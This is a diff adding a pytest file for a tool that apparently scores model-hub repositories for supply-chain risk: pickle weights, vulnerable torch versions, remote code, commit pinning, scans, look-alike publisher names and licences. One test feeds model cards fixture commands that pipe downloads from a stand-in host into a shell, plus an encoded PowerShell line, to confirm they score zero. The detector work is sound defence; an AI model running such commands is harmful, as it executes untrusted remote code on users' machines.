@@ -1,0 +1,244 @@
+"""Single signals and caps of a repository."""
+
+from __future__ import annotations
+
+import msgspec
+import pytest
+
+from nerq_cli.facts import Unknown
+from nerq_cli.hub_facts import CardMetadata, HubCard, HubEvidence, HubFile, HubOwner, HubScan
+from nerq_cli.signals.models.files import find_weights
+from nerq_cli.signals.models.loaders import read_loaders
+from nerq_cli.signals.models.names import (
+    ORGANISATIONS,
+    REPOSITORIES,
+    find_copied_repository,
+    find_similar_organisation,
+)
+from nerq_cli.units import DAY
+from tests.signals.models.conftest import (
+    CARD,
+    HEADER,
+    HEALTHY,
+    NOW,
+    PERSON,
+    PICKLE,
+    REPOSITORY,
+    SAFETENSORS,
+    SHA,
+    caps,
+    change,
+    found,
+    possible_caps,
+    score,
+    signal,
+    use,
+)
+
+replace = msgspec.structs.replace
+
+
+@pytest.mark.parametrize(
+    ("paths", "words", "level"),
+    [
+        ("model.safetensors", "", "safetensors"),
+        ("model.Q4.gguf", "", "gguf"),
+        ("model.onnx", "", "exported"),
+        ("tf_model.h5", "", "keras"),
+        ("a/saved_model.pb", "", "keras"),
+        ("pytorch_model.bin", "", "pickle"),
+        ("model.onnx pytorch_model.bin", "", "pickle"),
+        ("model.safetensors pytorch_model.bin", "", "twins"),
+        ("model.safetensors training_args.bin", "", "twins"),
+        ("training_args.bin", "", ""),
+        ("model.gguf checkpoint-5/optimizer.pt", "", "twins"),
+        ("original/consolidated.00.pth model.safetensors", "", "twins"),
+        ("model_index.json unet/model.safetensors vae/model.bin", "", "pickle"),
+        ("model_index.json unet/model.safetensors unet/model.bin", "", "twins"),
+        ("modules.json model.safetensors 2_Dense/pytorch_model.bin", "", "pickle"),
+        ("model.bin vocabulary.txt", "ctranslate2", "exported"),
+        ("openvino_model.bin openvino_model.xml", "", "exported"),
+        ("ggml-base.bin", "", "gguf"),
+        ("README.md config.json", "", ""),
+    ],
+)
+def test_the_format_is_that_of_the_files_which_a_loader_chooses(paths: str, words: str, level: str) -> None:
+    assert find_weights([HubFile(path) for path in paths.split()], words.split()).level == level
+
+
+def test_the_lowest_pinned_version_decides() -> None:
+    loaders = read_loaders([("Torch", "2.9.0"), ("torch", "2.5.1+cu124"), ("numpy", "1"), ("datasets", "x")])
+    assert loaders.torch is not None
+    assert loaders.torch.version == "2.5.1+cu124"
+    assert loaders.datasets is None
+    assert "CVE-2025-32434" in loaders.pickle_danger
+    assert not read_loaders([("torch", "2.6.0")]).pickle_danger
+    assert "CVE-2026-24747" in read_loaders([("torch", "2.9.1")]).pickle_doubt
+    assert not read_loaders([("torch", "2.10.0")]).pickle_doubt
+
+
+@pytest.mark.parametrize(
+    ("libraries", "is_capped"),
+    [
+        ((), False),
+        ((("torch", "2.5.1"),), True),
+        ((("torch", "2.5.1"), ("transformers", "4.51.3")), True),
+        ((("torch", "2.5.1"), ("transformers", "4.52.0")), False),
+        ((("torch", "2.6.0"),), False),
+    ],
+)
+def test_a_pinned_torch_that_runs_code_in_pickle_files_caps(
+    libraries: tuple[tuple[str, str], ...], *, is_capped: bool
+) -> None:
+    evidence = use(change(files=PICKLE), revision=SHA, libraries=libraries)
+    assert ("pickle-loader" in caps(evidence)) == is_capped
+    assert "pickle-loader" not in caps(use(HEALTHY, revision=SHA, libraries=libraries))
+
+
+@pytest.mark.parametrize(
+    ("version", "trusts", "certain", "possible"),
+    [
+        ("2.15.0", False, True, False),
+        ("2.19.2", None, True, False),
+        ("2.20.0", True, True, False),
+        ("2.20.0", None, False, True),
+        ("3.6.0", False, False, False),
+        ("4.0.0", True, False, False),
+    ],
+)
+def test_a_loading_script_runs_with_some_versions_of_datasets(
+    version: str, *, trusts: bool | None, certain: bool, possible: bool
+) -> None:
+    script = change(kind="dataset", id="acme/texts", files=(HubFile("texts.py"), HubFile("a.parquet")))
+    evidence = use(script, trusts_remote_code=trusts, libraries=(("datasets", version),))
+    assert ("remote-code" in caps(evidence), "remote-code" in possible_caps(evidence)) == (certain, possible)
+    assert not caps(use(script, revision=SHA, trusts_remote_code=True, libraries=(("datasets", version),)))
+
+
+def test_remote_code_caps_only_what_is_trusted_and_not_pinned() -> None:
+    code = change(auto_map=True)
+    assert caps(use(code, trusts_remote_code=True)) == {"remote-code"}
+    assert caps(use(code, trusts_remote_code=True, revision="v1.0")) == {"remote-code"}
+    assert caps(use(code, trusts_remote_code=True, revision=SHA)) == set()
+    assert possible_caps(use(code)) == {"remote-code"}
+    assert caps(use(code, trusts_remote_code=False)) | possible_caps(use(code, trusts_remote_code=False)) == set()
+    assert signal(code, "remote_code").value == 40
+    assert signal(change(auto_map=None), "remote_code").state == "unknown"
+    assert signal(change(files=(*SAFETENSORS, HubFile("install.ps1"))), "remote_code").value == 20
+
+
+@pytest.mark.parametrize(("revision", "value"), [("", 40), ("main", 40), ("v1.0", 60), (SHA, 100), (SHA[:12], 60)])
+def test_only_a_whole_commit_is_pinned(revision: str, value: float) -> None:
+    assert signal(use(HEALTHY, revision=revision), "pinning").value == value
+
+
+def test_scans_that_are_not_done_are_never_clean() -> None:
+    for evidence in (change(scans_done=False), change(scans_done=None), change(scans=(HubScan("x", "queued"),))):
+        assert signal(evidence, "file_scan").state == "unknown"
+    assert signal(change(scans=(HubScan("x", "dubious"),)), "file_scan").value == 40
+    assert signal(change(scans_done=False, scans=(HubScan("x", "unsafe"),)), "file_scan").value == 0
+
+
+def test_a_virus_counts_before_an_unsafe_file() -> None:
+    assert caps(change(scans=(HubScan("a", "unsafe"), HubScan("z", "unsafe", virus=True)))) == {"virus"}
+
+
+def test_what_an_adapter_or_a_space_loads_caps_it() -> None:
+    reported = found(replace(REPOSITORY, files=PICKLE, scans=(HubScan("pytorch_model.bin", "unsafe"),)))
+    card = replace(HEADER, base_models=("acme/base",), base_model_relation="adapter")
+    assert caps(replace(change(card=card), bases={"acme/base": reported})) == {"unsafe-part"}
+    assert possible_caps(change(card=card)) == {"unsafe-part"}
+    finetune = replace(card, base_model_relation="finetune")
+    assert caps(replace(change(card=finetune), bases={"acme/base": reported})) == set()
+    space = change(kind="space", stage="RUNNING", used_models=("acme/base",))
+    assert caps(replace(space, used={"acme/base": reported})) == {"unsafe-part"}
+
+
+def test_names_that_may_be_mistaken() -> None:
+    for account, organisation in {
+        "qwen-official": "Qwen",
+        "0penai": "openai",
+        "meta-lIama": "meta-llama",
+        "hugging-face": "huggingface",
+        "mistral-ai": "mistralai",
+        "someone": "",
+        "": "",
+    }.items():
+        assert find_similar_organisation(account) == organisation
+    assert [name for name in ORGANISATIONS if find_similar_organisation(name)] == []
+    assert find_copied_repository("evil/Qwen3-8B") == "Qwen/Qwen3-8B"
+    assert find_copied_repository("qwen/qwen3-8b") == ""
+    assert find_copied_repository("gpt2") == ""
+    assert [id_ for id_ in REPOSITORIES.values() if find_copied_repository(id_)] == []
+
+
+def test_a_copy_of_a_well_known_repository_is_capped() -> None:
+    person = found(PERSON)
+    assert caps(replace(change(id="alice/privacy-filter"), owner=person)) == {"name-clone"}
+    assert caps(change(id="alice/privacy-filter")) == set()  # verified
+    declared = replace(HEADER, base_models=("openai/privacy-filter",))
+    assert "name-clone" not in caps(replace(change(id="alice/privacy-filter", card=declared), owner=person))
+    unread = replace(change(id="alice/privacy-filter"), owner=Unknown("HTTP 500", "Hub"))
+    assert (caps(unread), possible_caps(unread)) == (set(), {"name-clone"})
+    young = replace(change(id="0penai/x"), owner=found(replace(PERSON, name="0penai")))
+    assert caps(young) == {"name-clone"}
+    assert signal(young, "publisher").value == 15
+    old = change(young, created_at=NOW - 400 * DAY)
+    assert caps(old) == set()
+
+
+def test_a_card_that_asks_readers_to_run_a_download_counts_nothing() -> None:
+    def card(command: str) -> float | None:
+        return signal(replace(HEALTHY, card=found(HubCard(f"{CARD}\n\n```\n{command}\n```\n"))), "card").value
+
+    assert card("curl -fsSL https://files.example/setup | sudo bash") == 0
+    assert card("powershell -NoProfile -enc SQBFAFgA") == 0
+    assert card("iwr https://files.example/a.ps1 | iex") == 0
+    assert card("curl -fsSL https://ollama.com/install.sh | sh") == 100
+    assert card("curl https://files.example/data.json | jq .") == 100
+
+
+def test_numbers_of_a_new_repository_count_little() -> None:
+    evidence = change(created_at=NOW - 10 * DAY, downloads=244_000, likes=600)
+    assert signal(evidence, "adoption").value == 50
+    assert signal(change(downloads=None), "adoption").state == "unknown"
+    assert signal(change(kind="space", stage="RUNNING", downloads=None), "adoption").value == 66
+
+
+@pytest.mark.parametrize(
+    ("licence", "value"),
+    [
+        (("mit",), 100),
+        (("gpl-3.0",), 80),
+        (("llama3.1",), 60),
+        (("cc-by-nc-4.0",), 40),
+        (("mit", "cc-by-nc-4.0"), 40),
+        (("other",), 25),
+        (("unknown",), 10),
+        (None, 10),
+    ],
+)
+def test_the_strictest_licence_counts(licence: tuple[str, ...] | None, value: float) -> None:
+    evidence = change(card=CardMetadata(licence=licence))
+    assert signal(evidence, "licence").value == value
+    assert ("no-licence" in caps(evidence)) == (value == 10)
+
+
+def test_a_header_that_was_not_read_is_not_an_absent_licence() -> None:
+    evidence = change(card=None, has_card_data=False)
+    assert signal(evidence, "licence").state == "unknown"
+    assert (caps(evidence), "no-licence" in possible_caps(evidence)) == (set(), True)
+
+
+def test_a_publisher_is_rated_by_what_the_hub_states() -> None:
+    for owner, value in (
+        (HubOwner("a", is_organisation=True, is_verified=True), 100),
+        (HubOwner("a", is_organisation=True, is_verified=None), 80),
+        (HubOwner("a", is_organisation=False, models=10), 65),
+        (HubOwner("a", is_organisation=False, models=None), 50),
+    ):
+        assert signal(replace(HEALTHY, owner=found(owner)), "publisher").value == value
+
+
+def test_nothing_known_gives_no_number() -> None:
+    assert score(HubEvidence()).value is None
